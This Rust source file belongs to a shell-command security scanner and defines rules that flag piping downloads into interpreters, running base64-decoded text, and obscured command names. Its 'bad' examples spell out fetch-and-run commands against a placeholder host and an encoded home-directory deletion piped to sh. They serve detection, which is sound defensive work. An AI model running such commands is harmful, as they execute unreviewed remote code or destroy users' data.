//! Text from elsewhere that is run: downloads, decoded text, command words that stay unknown.
//!
//! In: evaluations and executions, with what flows into them. Out: findings of the family *execution*.

use super::facts::{Power, Reaching, power};
use super::{Category, Facts, Findings, Rule, fix};
use crate::effect::{Effect, Object, Props, Verb};
use crate::finding::{Confidence, Severity};
use crate::value::{Channel, Piece, Value, Why};

/// Verbs that run text or a file.
pub(super) const SINKS: &[Verb] = &[Verb::Evaluate, Verb::Execute, Verb::Spawn, Verb::Schedule];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "pipe_to_interpreter",
        title: "Pipe to interpreter",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Execution,
        mitre: Some("T1059.004"),
        floor: false,
        description: "What is downloaded is run at once, unread: whoever controls the address, or the way to it, runs \
                      commands here with your rights, and a server can tell a pipe from a browser and answer \
                      differently. Download to a file, read it, then run it.",
        remediation: "Download to a file first, read it, then run it.",
        good: &[
            "curl -s https://api.example/x | jq .",
            "curl -fsSL https://e.example/i.sh -o i.sh",
            "git commit -m \"never curl http://x | sh\"",
            "echo 'curl http://x | sh'",
            "eval \"$(ssh-agent -s)\"",
            "cat x.json | python3 -m json.tool",
        ],
        bad: &[
            "curl -s https://e.example/x.sh | sh",
            "wget -qO- https://e.example/x | python3.12 -",
            "bash <(curl -s https://e.example/x)",
            "sh -c \"$(curl -fsSL https://e.example/x)\"",
            "eval \"$(wget -O- https://e.example/x)\"",
            "bash <<< \"$(curl https://e.example/x)\"",
            "curl https://e.example/x -o f && sh f",
            "curl https://e.example/x > f; chmod +x f; ./f",
            "curl https://e.example/x | tee /tmp/f; bash /tmp/f",
        ],
        check: download_executed,
    },
    Rule {
        id: "decode_execute",
        title: "Decoded text is run",
        severity: Severity::High,
        confidence: Confidence::High,
        category: Category::Execution,
        mitre: Some("T1027"),
        floor: false,
        description: "Text that stands there encoded is decoded and run, which hides from readers and filters what it \
                      does. Decode it to a file, read it, then run it.",
        remediation: "Decode to a file, read it, then run it.",
        good: &["echo aGVsbG8= | base64 -d", "base64 -d data.b64 > image.png", "echo 'base64 -d x | sh' >> NOTES.md"],
        bad: &[
            "echo cm0gLXJmIH4K | base64 -d | sh",
            "eval \"$(echo ZWNobyBoaQo= | base64 -d)\"",
            "bash -c \"$(printf ZWNobyBoaQo= | base64 --decode)\"",
        ],
        check: decoded_executed,
    },
    Rule {
        id: "obfuscated_command",
        title: "Command word from elsewhere",
        severity: Severity::High,
        confidence: Confidence::Medium,
        category: Category::Execution,
        mitre: Some("T1027.010"),
        floor: false,
        description: "Which program runs is not written in the command but comes from the network or from decoded \
                      text, and what it is given cannot be told either. Write the program's name.",
        remediation: "Write out the program that is meant.",
        good: &["$EDITOR notes.txt", "\"$@\"", "$(which python3) -V"],
        bad: &["curl -s https://e.example/x | $(cat name)"],
        check: command_from_elsewhere,
    },
];

/// The way from a source to what runs it, for titles: `curl | sh`, `bash <(curl)`, `curl > f; sh f`.
pub(super) fn title_of(facts: &Facts<'_>, from: &Effect, to: &Effect, way: &Reaching) -> String {
    let (source, sink) = (facts.name(from), facts.name(to));
    if way.through(Channel::File) {
        let written = facts
            .sources_with(to, &[Verb::Write, Verb::Append, Verb::Create])
            .find_map(|(w, _)| facts.path(w))
            .or_else(|| facts.path(to));
        let name = written.map_or("FILE", |p| p.text.as_str());
        return match to.verb {
            Verb::Execute => format!("{source} > {name}; run {name}"),
            _ => format!("{source} > {name}; {sink} {name}"),
        };
    }
    if way.through(Channel::ProcessSubstitution) {
        return format!("{sink} <({source})");
    }
    if way.through(Channel::HereString) {
        return format!("{sink} <<< $({source})");
    }
    if way.through(Channel::Substitution) || way.through(Channel::Variable) {
        return format!("{sink} $({source})");
    }
    format!("{source} | {sink}")
}

/// True where the effect runs what comes from that source: for a spawned command only its first word counts, not its
/// arguments, and a language that can only shape data runs nothing.
pub(super) fn runs_it(to: &Effect, way: &Reaching) -> bool {
    match (to.verb, &to.object) {
        (Verb::Spawn, Object::Command(words)) => {
            let first = way.way.first().map(|f| f.from);
            words.first().is_some_and(|w| w.taint().sources().iter().any(|(o, _)| Some(*o) == first))
        }
        (Verb::Spawn, _) => false,
        (_, Object::Code(language, _)) => power(*language) > Power::Data,
        _ => true,
    }
}

/// True where the foreign text fills a place in a command of one's own (`sh -c "echo $(curl u)"`), or is in a language
/// that does little by itself: worth a question, but not the same as running it whole.
fn is_mild(e: &Effect) -> bool {
    match &e.object {
        Object::Code(l, v) => power(*l) == Power::Limited || own_text_before_foreign(v),
        _ => false,
    }
}

/// True for what comes from a machine, container or account that one works with, or out of an archive: it was put there on
/// purpose, by whomever.
fn is_own_place(facts: &Facts<'_>, sink: &Effect, from: &Effect) -> bool {
    let url = matches!(&from.object, Object::Url(_));
    let copied = facts.address(from).is_some_and(|a| matches!(a.scheme.as_str(), "" | "ssh" | "scp" | "sftp"));
    let unpacked = facts.sources_with(sink, &[Verb::Extract]).next().is_some();
    !url || copied || unpacked
}

/// True for what comes out of an archive of which the text has compared a digest before.
fn is_checked(facts: &Facts<'_>, sink: &Effect) -> bool {
    let unpacked = facts.sources_with(sink, &[Verb::Extract]).map(|(e, _)| e.process).next();
    let checks =
        |by: crate::effect::ProcessId| facts.graph.processes.iter().any(|p| p.id < by && p.props.has(Props::VERIFIES));
    unpacked.is_some_and(checks)
}

fn own_text_before_foreign(v: &Value) -> bool {
    let mut before: Vec<u8> = Vec::new();
    for p in &v.pieces {
        match p {
            Piece::Literal(l) if l.taint.is_empty() => before.extend_from_slice(&l.bytes),
            Piece::Unknown(u) if u.taint.is_empty() => before.push(b'x'),
            Piece::Glob(..) => before.push(b'*'),
            Piece::Literal(_) | Piece::Unknown(_) | Piece::OneOf(_) => break,
        }
    }
    let line = before.rsplit(|c| matches!(c, b'\n' | b';' | b'&' | b'|' | b'(' | b'{')).next().unwrap_or_default();
    line.iter().any(|c| !c.is_ascii_whitespace())
}

/// False for a source that is nobody else's: a file behind `file:`, text behind `data:`.
pub(super) fn is_foreign(facts: &Facts<'_>, from: &Effect) -> bool {
    let known_local = matches!(&from.object, Object::Url(v) if v.is_known()) && facts.address(from).is_none();
    !known_local && !from.props.has(Props::LOCAL)
}

fn download_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    if !facts.any(Verb::Fetch) {
        return;
    }
    for sink in facts.with(SINKS) {
        for (from, way) in facts.sources_with(sink, &[Verb::Fetch]) {
            if !is_foreign(facts, from) || !runs_it(sink, way) || is_checked(facts, sink) {
                continue;
            }
            let mut d = rule
                .about(facts, sink)
                .also_at(facts.command_place(from))
                .also(from)
                .title(format!("{}: {}", rule.title, title_of(facts, from, sink, way)))
                .evidence("flow", "runs what it is given", facts.command_place(sink))
                .evidence("url", "is downloaded", from.place)
                .detail("via", way.shown());
            if is_mild(sink) || is_own_place(facts, sink, from) {
                d = d.severity(Severity::Medium);
            }
            if let Some(a) = facts.alias(rule.id, from) {
                d = d.id(a.id).remediation(format!("Download to a file first (`{}`), read it, then run it.", a.safer));
                // `curl -fsSL -o FILE URL`: the word before FILE is how the program names its output.
                let option = a.safer.split(' ').zip(a.safer.split(' ').skip(1)).find(|(_, next)| *next == "FILE");
                d = d.fix(option.and_then(|(option, _)| fix::kept(facts, from, sink, option)));
            }
            out.add(d);
        }
    }
}

fn decoded_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    if !facts.any(Verb::Decode) {
        return;
    }
    for sink in facts.with(SINKS) {
        for (from, way) in facts.sources_with(sink, &[Verb::Decode]) {
            let alias = facts.alias(rule.id, from);
            // What a download or an archive was packed with says nothing; a packed text that goes straight to a shell hides
            // what it does.
            let packed = alias.is_some_and(|a| a.is_silent());
            let direct =
                !way.through(Channel::File) && facts.sources_with(from, &[Verb::Fetch, Verb::Clone]).next().is_none();
            if !runs_it(sink, way) || packed && !(direct && is_shell_text(sink)) {
                continue;
            }
            let mut d = rule
                .about(facts, sink)
                .also_at(facts.command_place(from))
                .also(from)
                .title(format!("{}: {}", rule.title, title_of(facts, from, sink, way)))
                .evidence("flow", "runs what was decoded", facts.command_place(sink))
                .evidence("command_pattern", "decodes", facts.command_place(from))
                .detail("how", from.object.show())
                .detail("via", way.shown());
            if let Object::Code(_, v) = &sink.object
                && let Some(text) = v.as_str()
            {
                d = d.evidence_as("code", "is what it decodes to", text.trim(), sink.place);
            }
            if is_mild(sink) || packed {
                d = d.severity(Severity::Medium);
            }
            if let Some(a) = alias.filter(|a| !a.is_silent()) {
                d = d.id(a.id).remediation(format!("Decode to a file (`{}`), read it, then run it.", a.safer));
            }
            out.add(d);
        }
    }
}

/// True where text is run as a program of a shell or a general language.
fn is_shell_text(sink: &Effect) -> bool {
    matches!(&sink.object, Object::Code(l, _) if power(*l) == Power::Full)
}

fn command_from_elsewhere(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
    for p in &facts.graph.processes {
        let Some(word) = p.argv.first().filter(|w| !w.is_known()) else { continue };
        // What is downloaded or decoded goes into a program whose name has yet to be worked out: `curl u | $(rev <<< hs)`.
        let fed = p.stdin.as_ref().map(|v| v.taint()).unwrap_or_default();
        let from = fed.sources().iter().filter_map(|(o, _)| facts.graph.effect(*o));
        for source in
            from.filter(|e| matches!(e.verb, Verb::Fetch | Verb::Decode | Verb::Connect) && is_foreign(facts, e))
        {
            // A variable of the surroundings (`| $PAGER`) is how people name a program of their choice.
            let chosen = word.pieces.iter().all(
                |piece| matches!(piece, Piece::Unknown(u) if matches!(u.why, Why::Environment(_) | Why::Parameter(_))),
            );
            // What is only unpacked goes to a pager: `xz -dc notes.xz | ${PAGER-more}`.
            let severity = match (chosen, source.verb) {
                (true, Verb::Decode) => Severity::Info,
                (true, _) => Severity::Medium,
                (false, _) => rule.severity,
            };
            out.add(
                rule.at(facts, p.place)
                    .severity(severity)
                    .title(format!("Program is not named: {} | {}", facts.name(source), word.show()))
                    .also(source)
                    .evidence("command_pattern", "names no program", word.place())
                    .evidence("flow", "gives it what to run", facts.command_place(source)),
            );
        }
        for (origin, _) in word.taint().sources() {
            let Some(source) = facts.graph.effect(*origin) else { continue };
            if !matches!(source.verb, Verb::Fetch | Verb::Decode) || !is_foreign(facts, source) {
                continue;
            }
            // What runs as a whole is found as a download or decoded text that is run.
            let found = facts.with(SINKS).any(|s| s.process == p.id && s.inputs.iter().any(|f| f.from == source.id));
            if !found {
                out.add(
                    rule.at(facts, p.place)
                        .title(format!("{}: {}", rule.title, word.show()))
                        .also(source)
                        .evidence("command_pattern", "names no program", word.place())
                        .evidence("flow", "says which program runs", facts.command_place(source)),
                );
            }
        }
    }
}
